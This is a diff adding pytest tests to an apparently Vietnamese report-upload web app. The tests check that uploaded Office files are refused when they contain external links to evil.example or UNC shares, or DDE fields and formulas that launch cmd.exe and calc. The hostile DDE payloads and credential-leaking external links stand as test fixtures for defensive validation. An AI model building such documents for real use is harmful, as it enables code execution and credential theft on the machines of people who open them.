@@ -429,3 +429,170 @@ def test_a_removed_file_leaves_the_disk_once_the_removal_commits(
         assert post_seen(client, f"/bao-cao/{report.pk}/minh-chung/{evidence.pk}/xoa/").status_code == 302
     assert not Evidence.objects.exists() and not storage.exists(name)
     assert Evidence.history.get(history_type="-").file == name  # the history names it, and serves nothing
+
+
+# Issue 17, third probe: a file that fetches or runs something from outside when a reviewer opens it.
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+EXTERNAL = ' TargetMode="External"'
+LINK_REFUSED = "có liên kết tới tệp hoặc địa chỉ bên ngoài được tải về khi mở tệp"
+DDE_REFUSED = "có trường hoặc công thức DDE"
+
+
+def package(parts, types=PLAIN):
+    """A zip of `parts` (name → text) behind plain content types."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("[Content_Types].xml", types)
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def word(body="<w:p/>", rels=()):
+    """A .docx of `body`, with document relationships (type, target, mode)."""
+    parts = {"word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>"}
+    if rels:
+        parts["word/_rels/document.xml.rels"] = (
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            + "".join(
+                f'<Relationship Id="rId{n}" Type="{REL}{kind}" Target="{target}"{mode}/>'
+                for n, (kind, target, mode) in enumerate(rels, 1)
+            )
+            + "</Relationships>"
+        )
+    return package(parts)
+
+
+def workbook(formula):
+    return package(
+        {
+            "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+            "xl/worksheets/sheet1.xml": (
+                '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+                f'<row r="1"><c r="A1"><f>{formula}</f><v>0</v></c></row></sheetData></worksheet>'
+            ),
+        }
+    )
+
+
+def field_runs(*pieces):
+    """A complex field whose instruction is split across runs."""
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
+    return (
+        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+OUTSIDE = [
+    ("frame.docx", word(rels=[("frame", "http://evil.example/f", EXTERNAL)]), LINK_REFUSED),
+    ("anh.docx", word(rels=[("image", "file://evil.example/share/a.png", EXTERNAL)]), LINK_REFUSED),
+    ("unc-anh.docx", word(rels=[("image", "\\\\evil.example\\share\\a.png", EXTERNAL)]), LINK_REFUSED),
+    # a hyperlink to a share is followed with the Windows login too
+    ("lien-ket-file.docx", word(rels=[("hyperlink", "file:///C:/Windows/System32/calc.exe", EXTERNAL)]), LINK_REFUSED),
+    ("lien-ket-unc.docx", word(rels=[("hyperlink", "\\\\evil.example\\share", EXTERNAL)]), LINK_REFUSED),
+    # an external target written without TargetMode
+    ("khong-mode.docx", word(rels=[("image", "file://evil.example/share/a.png", "")]), LINK_REFUSED),
+    # an external part of any other kind, in any part's relationships
+    (
+        "khung.docx",
+        package(
+            {
+                "word/document.xml": f"<w:document {W}/>",
+                "word/_rels/webSettings.xml.rels": RELS.format(
+                    type=f"{REL}frame", target="http://evil.example/f", mode=EXTERNAL
+                ),
+            }
+        ),
+        LINK_REFUSED,
+    ),
+    ("altchunk.docx", word(rels=[("aFChunk", "http://evil.example/a.html", EXTERNAL)]), LINK_REFUSED),
+    (
+        "bang-lien-ket.xlsx",
+        package(
+            {
+                "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+                "xl/externalLinks/_rels/externalLink1.xml.rels": RELS.format(
+                    type=f"{REL}externalLinkPath", target="file:///\\\\evil.example\\share\\a.xlsx", mode=EXTERNAL
+                ),
+            }
+        ),
+        LINK_REFUSED,
+    ),
+    # DDE fields: in one instrText, split across runs, in lower case, as a simple field
+    ("dde.docx", word(field_runs('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')), DDE_REFUSED),
+    ("dde-runs.docx", word(field_runs(" DD", "EAU", 'TO cmd.exe "/k calc"')), DDE_REFUSED),
+    ("dde-thuong.docx", word(field_runs('ddeauto cmd.exe "/k calc"')), DDE_REFUSED),
+    ("dde-simple.docx", word("<w:p><w:fldSimple w:instr=' DDE cmd.exe \"/k calc\"'/></w:p>"), DDE_REFUSED),
+    # Excel: a DDE formula, or the DDE link Excel itself records
+    ("dde.xlsx", workbook("cmd|' /C calc'!A0"), DDE_REFUSED),
+    (
+        "dde-link.xlsx",
+        package(
+            {
+                "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+                "xl/externalLinks/externalLink1.xml": (
+                    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                    '<ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
+                ),
+            }
+        ),
+        DDE_REFUSED,
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "content", "message"), OUTSIDE)
+def test_it_refuses_what_opens_something_outside_and_keeps_the_text(
+    client, cast, report, tmp_path, name, content, message
+):
+    client.force_login(cast["canbo.ldtbxh"])
+    response = upload(client, report, name, content)
+    assert response.status_code == 422
+    html = response.content.decode()
+    assert f"Tệp “{name}” {message}" in html
+    assert "Có minh chứng kèm theo." in html
+    assert not Evidence.objects.exists() and not list(tmp_path.rglob("*.*"))
+
+
+def with_hyperlinks(content):
+    """The .docx `content` with a web and a mail hyperlink in its text."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w") as archive:
+        for member in source.infolist():
+            data = source.read(member)
+            if member.filename == "word/_rels/document.xml.rels":
+                data = data.replace(
+                    b"</Relationships>",
+                    f'<Relationship Id="rId90" Type="{REL}hyperlink" Target="https://binhson.gov.vn/ke-hoach"'
+                    f'{EXTERNAL}/><Relationship Id="rId91" Type="{REL}hyperlink" '
+                    f'Target="mailto:vanphong@binhson.gov.vn"{EXTERNAL}/></Relationships>'.encode(),
+                )
+            elif member.filename == "word/document.xml":
+                data = data.replace(
+                    b"<w:body>",
+                    b'<w:body><w:p><w:hyperlink r:id="rId90"><w:r><w:t>K\xe1\xba\xbf ho\xe1\xba\xa1ch</w:t></w:r>'
+                    b'</w:hyperlink><w:hyperlink r:id="rId91"><w:r><w:t>Th\xc6\xb0</w:t></w:r></w:hyperlink></w:p>',
+                )
+            archive.writestr(member, data)
+    with zipfile.ZipFile(buffer) as archive:  # both links, in the relationships and in the text
+        assert archive.read("word/_rels/document.xml.rels").count(b"binhson.gov.vn") == 2
+        assert archive.read("word/document.xml").count(b"<w:hyperlink ") == 2
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("lien-ket.docx", with_hyperlinks(python_docx_bytes())),
+        # fields that are no DDE, and a "|" inside a string or a quoted sheet name
+        ("truong.docx", word(field_runs(" PAGE ") + '<w:p><w:fldSimple w:instr=" DATE \\@ dd/MM/yyyy"/></w:p>')),
+        ("chuoi.xlsx", workbook("CONCATENATE(\"a|b\",'Thu|Chi'!A1)")),
+    ],
+)
+def test_web_and_mail_hyperlinks_and_plain_fields_are_accepted(client, cast, report, name, content):
+    client.force_login(cast["canbo.ldtbxh"])
+    assert upload(client, report, name, content).status_code == 302
+    assert Evidence.objects.get(entry__report=report).original_name == name
